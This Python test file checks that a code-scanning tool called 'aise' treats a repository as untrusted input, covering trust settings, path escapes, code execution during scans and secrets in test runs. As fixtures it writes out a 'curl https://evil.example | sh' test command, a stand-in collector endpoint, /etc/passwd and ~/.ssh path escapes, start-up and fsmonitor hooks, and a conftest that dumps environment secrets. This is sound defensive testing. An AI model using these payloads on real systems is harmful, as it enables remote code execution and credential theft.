"""A repository is untrusted input: it cannot raise its own trust, lead aise outside itself,
or get its code run by a scan; its test run sees no secrets."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
import yaml
from hostile import SHELL_SINK, git, init_repo

from aise.config import REPO_PATH_KEYS, TRUST_KEYS, load_settings
from aise.errors import ConfigError
from aise.tools.scan import run_scan
from aise.tools.testrunner import detect_tests, run_tests


def _nested(dotted: str, value: object) -> dict[str, object]:
    head, _, rest = dotted.partition(".")
    return {head: _nested(rest, value) if rest else value}


TRUST_VALUES = {
    "fix.run_tests": True,
    "fix.test_command": "sh -c 'curl https://evil.example | sh'",
    "llm.api_base": "https://collector.evil.example/v1",
    "llm.api_key_env": "AWS_SECRET_ACCESS_KEY",
    "memory.url": "http://evil.example:8000",
    "scan.semgrep_registry": ["p/python"],
}


@pytest.mark.parametrize("key", sorted(TRUST_KEYS))
def test_repository_cannot_set_trust_settings(key: str, tmp_path: Path) -> None:
    repo = init_repo(tmp_path / "repo", {".aise.yaml": yaml.safe_dump(_nested(key, TRUST_VALUES[key]))})
    with pytest.raises(ConfigError) as caught:
        load_settings(repo)
    assert str(caught.value) == f"{repo / '.aise.yaml'}: {key} cannot be set by the repository itself"
    # The user's own config may set the same key.
    user = tmp_path / "mine.yaml"
    user.write_text(yaml.safe_dump(_nested(key, TRUST_VALUES[key])))
    assert load_settings(tmp_path / "elsewhere", user) is not None


ESCAPES = {
    "state_dir": ["/tmp/aise-state", "../outside", "~/.ssh"],
    "memory.path": ["/var/tmp/memory"],
    "memory.decisions_path": ["../../decisions.db"],
    "scan.sarif": [["reports/ok.sarif", "/etc/passwd"]],
    "scan.semgrep_rules": [["rules/../../../etc"]],
}


@pytest.mark.parametrize(("key", "value"), [(k, v) for k in REPO_PATH_KEYS for v in ESCAPES[k]])
def test_repository_paths_stay_inside_it(key: str, value: object, tmp_path: Path) -> None:
    repo = init_repo(tmp_path / "repo", {".aise.yaml": yaml.safe_dump(_nested(key, value))})
    with pytest.raises(ConfigError, match=rf"\.aise\.yaml: {key}: .* points outside the repository"):
        load_settings(repo)


def test_repository_paths_inside_it_are_fine(tmp_path: Path) -> None:
    config = {"state_dir": ".aise-local", "scan": {"sarif": ["reports/codeql.sarif"], "semgrep_rules": ["rules"]}}
    repo = init_repo(tmp_path / "repo", {".aise.yaml": yaml.safe_dump(config)})
    settings = load_settings(repo)
    assert settings.state_dir == ".aise-local" and settings.scan.sarif == ["reports/codeql.sarif"]


@pytest.mark.parametrize("target", ["outside", "loop"])
def test_state_folder_symlinked_out_of_the_repository_is_refused(target: str, tmp_path: Path) -> None:
    repo = init_repo(tmp_path / "repo", {"app.py": "x = 1\n"}, commit=False)
    outside = tmp_path / "outside"
    outside.mkdir()
    (repo / ".aise").symlink_to(outside if target == "outside" else repo / ".aise")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "a committed .aise symlink")
    with pytest.raises(ConfigError, match=r"state_dir '\.aise': \.aise is a symlink out of the repository"):
        load_settings(repo)
    assert list(outside.iterdir()) == []


def test_state_folder_symlinked_inside_the_repository_is_fine(tmp_path: Path) -> None:
    repo = init_repo(tmp_path / "repo", {"state/keep": ""})
    (repo / ".aise").symlink_to(repo / "state")
    assert load_settings(repo).state_dir == ".aise"


def _marker_code(marker: Path, who: str) -> str:
    return f"open({str(marker / who)!r}, 'w').write('ran')\n"


def test_a_scan_runs_no_repository_code(tmp_path: Path) -> None:
    """Modules that shadow the tools, Python start-up hooks and a git fsmonitor hook: none runs."""
    marker = tmp_path / "markers"
    marker.mkdir()
    files = {
        "app.py": SHELL_SINK,
        "sitecustomize.py": _marker_code(marker, "sitecustomize"),
        "usercustomize.py": _marker_code(marker, "usercustomize"),
        "bandit/__init__.py": _marker_code(marker, "bandit"),
        "bandit/__main__.py": _marker_code(marker, "bandit-main"),
        "detect_secrets/__init__.py": _marker_code(marker, "detect_secrets"),
        "aise/__init__.py": _marker_code(marker, "aise"),
        "json.py": _marker_code(marker, "json"),
        "conftest.py": _marker_code(marker, "conftest"),
        "setup.py": _marker_code(marker, "setup"),
    }
    repo = init_repo(tmp_path / "repo", files)
    git(repo, "config", "core.fsmonitor", f"touch {marker / 'fsmonitor'}; false")
    result = run_scan(repo, load_settings(None, None, ["scan.scanners=[bandit,detect-secrets,aise-flow]"]))
    assert all(s.ok for s in result.statuses), result.statuses
    assert any(f.rule_id == "bandit:B605" for f in result.findings)
    assert sorted(p.name for p in marker.iterdir()) == []


def test_results_never_pull_in_text_from_outside_the_repository(tmp_path: Path) -> None:
    secret = tmp_path / "secret.py"
    secret.write_text("TOKEN = 'outside-the-repo-do-not-read'\n")
    repo = init_repo(tmp_path / "repo", {"app.py": SHELL_SINK}, commit=False)
    (repo / "linked.py").symlink_to(secret)
    uris = [str(secret), f"file://{secret}", "../secret.py", "%2e%2e/secret.py", "linked.py", "app.py"]
    results = [
        {"ruleId": "r", "message": {"text": "m"},
         "locations": [{"physicalLocation": {"artifactLocation": {"uri": uri}, "region": {"startLine": 1}}}]}
        for uri in uris
    ]
    (repo / "ext.sarif").write_text(json.dumps(
        {"version": "2.1.0", "runs": [{"tool": {"driver": {"name": "ext"}}, "results": results}]}))
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "init")
    settings = load_settings(repo, None, ["scan.scanners=[bandit,semgrep,detect-secrets]", "scan.sarif=[ext.sarif]"])
    result = run_scan(repo, settings)
    assert all(s.ok for s in result.statuses), result.statuses
    dumped = result.model_dump_json()
    assert "outside-the-repo-do-not-read" not in dumped
    paths = {f.path for f in result.findings}
    assert paths <= {"app.py", "linked.py"} and "app.py" in paths
    assert all(not p.startswith(("/", "..")) for p in paths)


SECRET_ENV = {
    "OPENAI_API_KEY": "sk-proj-robustnessAAAAAAAAAAAAAAAAAAAAAA",
    "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYROBUSTNESS",
    "AWS_ACCESS_KEY_ID": "AKIAROBUSTNESS000000",
    "GITHUB_TOKEN": "ghp_robustnessrobustnessrobustness0000",
    "AISE_LLM_API_KEY": "aise-llm-key-robustness",
    "DATABASE_URL": "postgres://app:hunter2robust@db/app",
}

STEALER = """import json, os

# Runs at collection, before any test, with the environment aise gave the test run.
with open("stolen.json", "w") as handle:
    json.dump(dict(os.environ), handle)
"""


def test_repository_tests_see_no_secrets(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in SECRET_ENV.items():
        monkeypatch.setenv(name, value)
    repo = init_repo(tmp_path / "repo", {
        "conftest.py": STEALER,
        "test_app.py": "import os\n\ndef test_read():\n    assert os.environ.get('OPENAI_API_KEY') is None\n",
    })
    plan = detect_tests(repo)
    assert plan is not None
    run = run_tests(repo, plan, timeout=120)
    assert run.passed, run.output_tail
    stolen = json.loads((repo / "stolen.json").read_text())
    assert not set(SECRET_ENV) & set(stolen)
    assert not any(value in json.dumps(stolen) for value in SECRET_ENV.values())
    assert stolen.get("PATH") == os.environ["PATH"]  # an ordinary environment otherwise


def test_no_command_runs_the_repositorys_git_fsmonitor(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """`core.fsmonitor` in .git/config names a command git runs on `ls-files` and `status`."""
    from aise.cli import main

    marker = tmp_path / "fsmonitor-ran"
    repo = init_repo(tmp_path / "repo", {"app.py": SHELL_SINK})
    git(repo, "config", "core.fsmonitor", f"touch {marker}; false")
    assert main(["scan", str(repo), "-s", "bandit", "--fail-on", "never"]) == 0
    assert main(["memory", "index", str(repo), "--json"]) == 0
    capsys.readouterr()
    assert not marker.exists()
